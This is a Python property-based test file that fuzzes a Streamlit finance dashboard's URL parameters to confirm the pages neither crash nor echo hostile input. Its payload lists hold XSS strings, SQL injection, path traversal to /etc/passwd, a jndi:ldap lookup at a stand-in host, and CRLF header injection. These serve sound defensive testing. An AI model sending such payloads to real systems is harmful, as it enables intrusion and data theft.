"""Hostile links: generated query strings thrown at the compare and explorer pages (AppTest).

Every generated link must give a page with no exception; every value the page cannot use must be
met by a notice (st.warning with the link_off icon) and only those; values the page can use must
be used; and no parameter text may come back: nothing from the URL containing `<` in an element
rendered as HTML, and no invalid parameter text (keys or values) anywhere on the page.

Each example is a new AppTest session (a link opened fresh) in one warm process; the store holds
four metrics with two years of synthetic data.
"""

from __future__ import annotations

import ast
import string
from collections import defaultdict
from urllib.parse import parse_qs, urlencode

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from convex import ui
from convex.analytics.align import LOOKBACKS
from convex.metrics.catalog import catalog
from convex.ui import chart_controls, fred_controls, pair_charts

from .helpers import ROOT, app, fill_store, page_text, shown


# --------------------------------------------------------------------------- what is valid
def _page_constants(path, names):
    """Literal constants of a page module, read without running it (pages are Streamlit scripts)."""
    tree = ast.parse((ROOT / path).read_text())
    found = {}
    for node in tree.body:
        if isinstance(node, ast.Assign):
            for target in node.targets:
                if isinstance(target, ast.Name) and target.id in names:
                    found[target.id] = ast.literal_eval(node.value)
                elif isinstance(target, ast.Tuple):
                    for elt, value in zip(target.elts, getattr(node.value, "elts", []), strict=False):
                        if isinstance(elt, ast.Name) and elt.id in names:
                            found[elt.id] = ast.literal_eval(value)
    return found


_COMPARE = {
    **_page_constants("pages/compare.py", {"TRANSFORMS", "SPREADS", "ROLL_OPTIONS", "DEFAULT_LOOKBACK"}),
    "VIEWS": list(pair_charts.TABS),  # the page's tabs (VIEWS = list(pair_charts.TABS))
}
_METRIC = _page_constants("pages/metric.py", {"DEFAULT_METRIC"})
IDS = ui.metric_options()
BOOL = None  # "true" / "false", any case
COMPARE = {
    "a": IDS,
    "b": IDS,
    "lookback": list(LOOKBACKS),
    "transform": list(_COMPARE["TRANSFORMS"]),  # a dict's keys: the words shown and put in the URL
    "spread": list(_COMPARE["SPREADS"]),
    "roll": list(_COMPARE["ROLL_OPTIONS"]),
    "window": list(ui.STATS_WINDOWS),
    "dual": BOOL,
    "view": list(_COMPARE["VIEWS"]),
    "scale": chart_controls.SCALES,
    "recessions": BOOL,
    **fred_controls.URL_VALUES,
}
EXPLORER = {
    "metric": IDS,
    "lookback": list(LOOKBACKS),
    "window": list(ui.STATS_WINDOWS),
    "scale": chart_controls.SCALES,
    "recessions": BOOL,
    **fred_controls.URL_VALUES,
}
# Parameters the pages read whose rules this oracle does not model (windows of two dates, the scenario
# section's move and horizon, the days a screener's or an episode's link marks, the day a view is as
# known on, which must be a real day up to today): their links have tests of their own
# (tests/ui/test_pages.py, tests/ui/test_findings.py, tests/ui/test_asof_pages.py), and generated keys
# leave them out.
UNMODELLED = {"dates", "scenario", "move", "horizon", "split", "signal", "asof"}
PICKERS = {"a", "b", "metric"}  # catalog-id pickers, kept in step with the URL by the page itself
SELECTBOXES = {"transform", "spread", "roll", "window", "scale"}  # bound selectboxes: first option by default
TOGGLES = {"dual": False, "recessions": True}  # bound toggles and their defaults
# The compare page's chart controls sit beside its charts (convex/ui/chart_block.py): a page that
# stops before the charts (one metric twice, no common dates) draws none of them.
CHART_CONTROLS = {"transform", "spread", "scale", "dual", "recessions"}
FRED_KEYS = fred_controls.DEFAULTS  # FRED's units and frequency: kept in step with the URL by the page
EMBED_KEYS = {"embed", "embed_options"}  # Streamlit's own, hidden from st.query_params

STORED = {"walcl": "fred", "tlt": "yahoo", "spy": "yahoo", "gld": "yahoo"}
UNSTORED = ["spx", "dgs2", "net_liquidity", "btc"]  # a sample, no data, derived, crypto


def valid(allowed, key: str, value: str) -> bool:
    values = allowed[key]
    return value.lower() in ("true", "false") if values is BOOL else value in values


# ------------------------------------------------------------------------------ strategies
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(document.cookie)>',
    "</div></div><h1>defaced</h1>",
    "<b>bold</b><i>x</i>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "javascript:alert(1)",
    "[click me](javascript:alert(1))",
    "![img](http://evil.example/x.png)",
    "**bold** _italic_ `code`",
    ":red[alarm] :material/warning: :red-badge[owned]",
    "$$\\int_0^1 x\\,dx$$",
    "# Heading injected",
    "' OR '1'='1",
    "1; DROP TABLE observations; --",
    "walcl'; DELETE FROM series_meta; --",
    '" OR 1=1 --',
    "spy UNION SELECT metric_id, date, value FROM observations",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n%x",
    "\x00",
    "a\x00b",
    "\r\nSet-Cookie: owned=1",
    "\u202egnp.exe",
    "walcl\u200b",
    "\uff57\uff41\uff4c\uff43\uff4c",  # fullwidth "walcl"
    "🙂📈🚀",
    "İstanbul ß ﬁ",
    "-1",
    "0",
    "-0",
    "1e309",
    "-1e309",
    "NaN",
    "inf",
    "99999999999999999999999999999999",
    "-9223372036854775809",
    "0x7fffffff",
    "3.0",
    "null",
    "None",
    "undefined",
    "[]",
    "{}",
    "true",
    "false",
    "TRUE",
    "yes",
    "on",
    "1",
]
HOSTILE_KEYS = [
    "A",
    "LOOKBACK",
    "Lookback ",
    "metric",
    "a[]",
    "a.b",
    "page",
    "embed",
    "embed_options",
    "EMBED",
    "utm_source",
    "__proto__",
    "constructor",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    " ",
    "🙂",
    "x" * 300,
]


def _variants(values: list[str]) -> list[str]:
    out = []
    for v in values:
        out += [v.upper(), v.lower(), v.title(), f" {v}", f"{v} ", v + v, v + "\x00", f"{v}<b>"]
    return [v for v in out if v not in values]


def markup(text: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return st.one_of(
        text.map(lambda t: f"<script>{t}</script>"),
        text.map(lambda t: f"<b onmouseover=alert(1)>{t}</b>"),
        text.map(lambda t: f"[{t}](javascript:alert('{t}'))"),
        text.map(lambda t: f":red[{t}] **{t}**"),
        text.map(lambda t: f"{t}' OR '1'='1"),
    )


def value_strategy(allowed: dict, key: str) -> st.SearchStrategy[str]:
    good = allowed.get(key) or ["true", "false", "True", "FALSE"]
    if key in PICKERS:
        good = [*STORED, *UNSTORED, *good[:3]]
    short = st.text(max_size=24)
    return st.one_of(
        st.sampled_from(good),
        st.sampled_from(good),  # valid values mixed in, often
        st.sampled_from(PAYLOADS),
        st.sampled_from(_variants(list(good)[:12])),
        short,
        st.text(alphabet=string.ascii_letters + " <>/=\"'&;%", min_size=8, max_size=40),
        st.text(min_size=300, max_size=3000),  # overlong
        st.sampled_from(["x" * 20_000, "<" * 5_000, "9" * 10_000]),
        st.integers(min_value=-(10**40), max_value=10**40).map(str),
        st.floats().map(repr),
        st.just(""),
        markup(short),
    )


def query_strategy(allowed: dict) -> st.SearchStrategy[list[tuple[str, str]]]:
    keys = st.one_of(
        st.sampled_from(sorted(allowed)),
        st.sampled_from(sorted(allowed)),
        st.sampled_from(HOSTILE_KEYS),
        st.text(min_size=1, max_size=16).filter(lambda k: k not in UNMODELLED),
    )
    pair = keys.flatmap(lambda k: st.tuples(st.just(k), value_strategy(allowed, k)))
    return st.lists(pair, max_size=10)


def as_params(pairs: list[tuple[str, str]]) -> dict[str, str | list[str]]:
    grouped: dict[str, list[str]] = defaultdict(list)
    for key, value in pairs:
        grouped[key].append(value)
    return {k: v[0] if len(v) == 1 else v for k, v in grouped.items()}


def seen_by_page(params: dict) -> dict[str, list[str]]:
    """The query the page receives: what a browser sends for these pairs, parsed as Streamlit does."""
    parsed = parse_qs(urlencode(params, doseq=True), keep_blank_values=True)
    return {k: v for k, v in parsed.items() if k.lower() not in EMBED_KEYS}


# ---------------------------------------------------------------------------------- oracle
def link_notices(at) -> list[str]:
    return [w.value for w in at.warning if w.proto.icon == ":material/link_off:"]


def expected_notices(allowed: dict, query: dict[str, list[str]]) -> list[tuple[str, ...]]:
    """Fragments each notice must hold, one tuple per notice."""
    expected = []
    unknown = [k for k in query if k not in allowed]
    if unknown:
        expected.append((f"{len(unknown)} unrecognised link parameter",))
    for key in allowed:
        if key not in query:
            continue
        used = used_value(allowed, key, query[key])
        if key in PICKERS:
            if used is None:
                expected.append((f"“{key}” is not a Convex metric id",))
        elif used is None:
            expected.append((f"“{key}” is not valid here",))
        elif len(query[key]) > 1:
            which = "first non-empty" if key in FIRST_VALUE else "last"
            expected.append((f"The link repeats “{key}”; its {which} value is used",))
    return expected


def assert_notices(at, allowed, query) -> None:
    notices = link_notices(at)
    expected = expected_notices(allowed, query)
    unmatched = list(notices)
    for fragments in expected:
        hit = next((n for n in unmatched if all(f in n for f in fragments)), None)
        assert hit is not None, f"missing notice {fragments} in {notices}"
        unmatched.remove(hit)
    assert not unmatched, f"unexpected notices {unmatched} (expected {expected})"


def _letters(text: str) -> int:
    return sum(ch.isalpha() for ch in text)


class Corpus:
    """Text the page shows by itself (catalog, labels, a default run): an invalid value found there
    was not echoed from the URL. Built only when a candidate echo turns up."""

    def __init__(self, page: str | None):
        self.page = page
        self._text: str | None = None

    def __contains__(self, value: str) -> bool:
        if self._text is None:
            parts = []
            for m in catalog():
                parts += [
                    m.id,
                    m.name,
                    m.label,
                    m.description,
                    m.units,
                    m.domain,
                    m.symbol,
                    m.source_url or "",
                ]
            for values in (*COMPARE.values(), *EXPLORER.values()):
                parts += list(values or [])
            baseline = app(self.page)
            baseline.run()
            parts.append(page_text(baseline))
            self._text = "\n".join(parts)
        return value in self._text


def assert_nothing_echoed(at, allowed, query, corpus: Corpus) -> None:
    texts = shown(at)
    html = "\n".join(s.text for s in texts if s.html)
    foreign = [(None, k) for k in query if k not in allowed]
    for key, values in query.items():
        foreign += [(key, v) for v in values if key not in allowed or not valid(allowed, key, v)]
    for _key, text in foreign:
        if "<" in text:
            assert text not in html, f"URL text rendered as HTML: {text[:80]!r}"
        if not (len(text.strip()) >= 8 and _letters(text) >= 3):
            continue  # too plain to tell an echo from the page's own words
        where = [s.kind for s in texts if text in s.text]
        if where and text not in corpus:
            raise AssertionError(f"URL text echoed on the page ({where}): {text[:80]!r}")


# Button groups (the lookback) take the first value of a repeated parameter, every other widget
# the last; an invalid one means the default.
FIRST_VALUE = {"lookback"}


def used_value(allowed: dict, key: str, values: list[str]) -> str | None:
    """The value the page's widget ends up with, or None when it falls back to its default."""
    value = ([v for v in values if v] or values)[0] if key in FIRST_VALUE else values[-1]
    return value if valid(allowed, key, value) else None


def check_link(page, allowed, pairs, corpus, default_of, *, generated: bool = False) -> dict[str, bool]:
    params = as_params(pairs)
    query = seen_by_page(params)
    at = app(page, params)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert not at.error, [e.value for e in at.error]
    assert at.title, "the page rendered"
    assert_notices(at, allowed, query)
    assert_nothing_echoed(at, allowed, query, corpus)
    # Values the page can use are used; values it cannot use fall back to the default.
    with_charts = bool(at.get("arrow_vega_lite_chart") or at.get("vega_lite_chart"))
    for key in allowed:
        if key in CHART_CONTROLS and not with_charts:
            continue
        used = used_value(allowed, key, query[key]) if key in query else None
        if key in PICKERS:
            assert at.session_state[key] == (used or default_of[key])
        elif key == "lookback":
            assert at.button_group(key="lookback").value == (used or default_of[key])
        elif key in TOGGLES:
            expected = TOGGLES[key] if used is None else used.lower() == "true"
            assert at.toggle(key=key).value is expected
        elif key in SELECTBOXES:
            assert at.selectbox(key=key).value == (used or default_of[key])
        elif key in FRED_KEYS:
            assert at.session_state[key] == (used or FRED_KEYS[key])
    return {
        "with_charts": with_charts,
        "with_notices": bool(link_notices(at)),
        "with_markup": any("<" in v for values in query.values() for v in values)
        or any("<" in k for k in query),
        "with_repeats": any(len(v) > 1 for v in query.values()),
    }


# ---------------------------------------------------------------------------------- tests
SETTINGS = dict(
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
)
COMPARE_DEFAULTS = {
    # The compare page's default pair is the catalog's first featured pair.
    "a": catalog().featured[0][0],
    "b": catalog().featured[0][1],
    "lookback": _COMPARE["DEFAULT_LOOKBACK"],
    **{key: COMPARE[key][0] for key in SELECTBOXES},
}
EXPLORER_DEFAULTS = {
    "metric": _METRIC["DEFAULT_METRIC"],
    "lookback": "5Y",
    "window": EXPLORER["window"][0],
    "scale": EXPLORER["scale"][0],
}
# 2 x 300 compare links and 2 x 200 explorer links: four tests, so that `pytest -n 2` spreads them.
COMPARE_PARTS, COMPARE_EXAMPLES = 2, 300
EXPLORER_PARTS, EXPLORER_EXAMPLES = 2, 200


def tally(count, prefix: str, outcomes: list[dict[str, bool]]) -> None:
    """How the tried links spread: pages drawn in full, links that needed notices, markup..."""
    for name in outcomes[0]:
        count(f"{prefix}_{name}", sum(o[name] for o in outcomes))


@pytest.mark.parametrize("part", range(COMPARE_PARTS))
def test_generated_links_to_the_compare_page(part, count):
    fill_store(STORED, years=2)
    corpus = Corpus(None)
    tried = []

    @settings(max_examples=COMPARE_EXAMPLES, **SETTINGS)
    @given(pairs=query_strategy(COMPARE))
    def one_link(pairs):
        tried.append(check_link(None, COMPARE, pairs, corpus, COMPARE_DEFAULTS, generated=True))

    one_link()
    assert len(tried) >= COMPARE_EXAMPLES
    count("urls_tried_compare", len(tried))
    tally(count, "urls_compare", tried)


@pytest.mark.parametrize("part", range(EXPLORER_PARTS))
def test_generated_links_to_the_metric_explorer(part, count):
    fill_store(STORED, years=2)
    corpus = Corpus("pages/metric.py")
    tried = []

    @settings(max_examples=EXPLORER_EXAMPLES, **SETTINGS)
    @given(pairs=query_strategy(EXPLORER))
    # Found by this test: an empty lookback's rerun lost the other notices; a repeated one with an
    # empty first value was resolved differently by the page and by its notice.
    @example(pairs=[("lookback", ""), ("metric", "<script>alert(1)</script>")])
    @example(pairs=[("lookback", ""), ("lookback", "90D")])
    def one_link(pairs):
        tried.append(
            check_link("pages/metric.py", EXPLORER, pairs, corpus, EXPLORER_DEFAULTS, generated=True)
        )

    one_link()
    assert len(tried) >= EXPLORER_EXAMPLES
    count("urls_tried_explorer", len(tried))
    tally(count, "urls_explorer", tried)


# The same generated links against a PostgreSQL store (issue 28: a NUL in an upload id reached it).
POSTGRES_EXAMPLES = 100


@pytest.mark.parametrize(
    ("page", "allowed", "defaults"),
    [(None, COMPARE, COMPARE_DEFAULTS), ("pages/metric.py", EXPLORER, EXPLORER_DEFAULTS)],
    ids=["compare", "explorer"],
)
def test_generated_links_on_a_postgresql_store(page, allowed, defaults, monkeypatch, pg_url, count):
    monkeypatch.setenv("CONVEX_DATABASE_URL", pg_url)
    fill_store(STORED, years=2)
    corpus = Corpus(page)
    tried = []

    @settings(max_examples=POSTGRES_EXAMPLES, **SETTINGS)
    @given(pairs=query_strategy(allowed))
    @example(pairs=[("a" if page is None else "metric", "u:" + "\x00" * 12)])
    def one_link(pairs):
        tried.append(check_link(page, allowed, pairs, corpus, defaults, generated=True))

    one_link()
    assert len(tried) >= POSTGRES_EXAMPLES
    count("urls_tried_postgres", len(tried))


# ------------------------------------------------------------------- fixed regressions
@pytest.mark.usefixtures("backend")
@pytest.mark.parametrize(
    "pairs",
    [
        [("a", "<script>alert(1)</script>"), ("b", "<img src=x onerror=alert(1)>")],
        [("lookback", "1Y"), ("lookback", "<b>x</b>"), ("view", "Overlay"), ("view", "Spread")],
        [("a", "spy"), ("b", "spy")],
        [("a", "dgs2"), ("b", "spy")],
        [("a", "spx"), ("b", "net_liquidity"), ("dual", "TRUE")],
        [("<script>alert(1)</script>", "1"), ("embed", "true"), ("x" * 300, "y")],
        [("lookback", "x" * 20_000), ("roll", "-1"), ("window", "1e309"), ("spread", "' OR '1'='1")],
        [("scale", "LOG"), ("recessions", "maybe"), ("a", "spx")],
        [("scale", "log"), ("scale", "<b>linear</b>"), ("recessions", "FALSE"), ("recessions", "true")],
        [("units", "pc1"), ("freq", "m"), ("agg", "<script>x</script>"), ("a", "tlt"), ("b", "gld")],
        [("units", "PC1"), ("units", "chg"), ("freq", "d"), ("agg", "eop")],
    ],
)
def test_known_hostile_compare_links(pairs):
    fill_store(STORED, years=2)
    check_link(None, COMPARE, pairs, Corpus(None), COMPARE_DEFAULTS)


# ---------------------------------------------------------- shared links restore the view
@pytest.mark.parametrize(
    ("page", "key", "value"),
    [(None, key, value) for key in sorted(SELECTBOXES) for value in COMPARE[key]]
    + [("pages/metric.py", key, value) for key in ("window", "scale") for value in EXPLORER[key]],
)
def test_every_bound_selectbox_value_in_a_link_is_applied(page, key, value):
    fill_store(STORED, years=2)
    at = app(page, {key: value})
    at.run()
    assert not at.exception
    assert at.selectbox(key=key).value == value
    assert link_notices(at) == []


@pytest.mark.parametrize("page", [None, "pages/metric.py"])
@pytest.mark.parametrize("value", ["", ["", ""]], ids=["empty", "empty-twice"])
def test_an_empty_lookback_in_the_link_does_not_crash(page, value):
    fill_store(STORED, years=2)
    allowed, defaults = (EXPLORER, EXPLORER_DEFAULTS) if page else (COMPARE, COMPARE_DEFAULTS)
    pairs = [("lookback", v) for v in (value if isinstance(value, list) else [value])]
    check_link(page, allowed, pairs, Corpus(page), defaults)


@pytest.mark.parametrize("value", ["undefined", "Overlay-ish", "<script>alert(1)</script>"])
def test_an_invalid_view_is_not_kept_in_the_share_link(value):
    from urllib.parse import quote_plus

    fill_store(STORED, years=2)
    at = app(None, {"view": value, "b": "spy"})
    at.run()
    assert not at.exception
    share = [s.text for s in shown(at) if s.kind == "Code"]
    assert share and "view=" not in share[0] and quote_plus(value) not in share[0], share


@pytest.mark.parametrize("page", [None, "pages/metric.py"])
@pytest.mark.parametrize("values", [["90D", "1Y"], ["1Y", "zzz"], ["zzz", "1Y"], ["", "90D"], ["", ""]])
def test_a_repeated_lookback_uses_the_value_the_notice_names(page, values):
    fill_store(STORED, years=2)
    defaults = EXPLORER_DEFAULTS if page else COMPARE_DEFAULTS
    at = app(page, {"lookback": values})
    at.run()
    assert not at.exception
    first = next((v for v in values if v), None)
    first = first if first in LOOKBACKS else None
    assert at.button_group(key="lookback").value == (first or defaults["lookback"])
    repeated = "The link repeats “lookback”; its first non-empty value is used."
    expected = repeated if first else "is not valid here"
    notices = link_notices(at)
    assert len(notices) == 1 and expected in notices[0], notices
